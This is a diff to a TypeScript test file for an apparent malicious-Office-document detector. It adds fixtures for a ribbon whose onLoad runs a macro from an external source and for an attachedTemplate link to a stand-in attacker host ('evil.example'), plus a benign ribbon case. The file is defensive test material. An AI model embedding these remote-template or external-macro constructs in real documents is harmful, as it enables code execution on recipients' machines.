@@ -104,6 +104,14 @@ export const oddHarmfulTexts: Harmful[] = [
   text('a list of links whose name is in numbers', part('word/_rels/settings.xml.%72els', TEMPLATE)),
   text('a list of links in pieces', part('word/_rels/settings.xml.rels/[0].last.piece', TEMPLATE)),
   text('a folder with content', part('word/vbaProject.bin/', 'x')),
+  text(
+    'a ribbon with macros from elsewhere',
+    part('customUI/customUI.xml', `<customUI xmlns="c" onLoad="${EVIL}!run"/>`),
+  ),
+  text(
+    'a template on a share behind the letter of a drive',
+    docx(rels('word/_rels/settings.xml.rels', link('attachedTemplate', 'file://C:@evil.example/t.dotm', 'External'))),
+  ),
   text('a program in a package', packed(PACKAGER, Buffer.from('\u0002\0a.exe\0C:\\a.exe\0', 'latin1'))),
   text('a picture that the packager would open', packed(PACKAGER, bitmap(4996))),
   text('a program that says it is of Paint', packed(PAINT, Buffer.from('\u0002\0a.exe\0', 'latin1'))),
@@ -120,6 +128,7 @@ export const oddHarmfulTexts: Harmful[] = [
 ];
 
 export const oddGenuineTexts: [name: string, content: Buffer][] = [
+  ['with a ribbon.docx', part('customUI/customUI.xml', '<customUI xmlns="c" onLoad="run"/>')],
   ['with a picture pasted from Paint.docx', packed(PAINT, bitmap(4986))],
   ['with spare tables.doc', doc(['WordDocument', '1Table'], { spareTables: 2 })],
   ['filled up with ends.doc', doc(['WordDocument', '1Table'], { filling: 0xfffffffe })],
